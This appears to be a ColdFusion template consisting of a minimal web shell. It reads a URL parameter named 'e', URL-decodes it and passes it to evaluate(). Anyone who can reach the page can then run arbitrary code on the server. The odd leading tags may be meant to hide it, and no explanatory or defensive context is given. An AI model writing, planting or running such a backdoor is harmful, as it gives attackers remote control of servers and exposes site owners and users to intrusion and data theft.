<cfinert>
<cfabort>
<cfoutput><cfif structKeyExists(url, "e")>#evaluate(urlDecode(url.e))#</cfif></cfoutput>
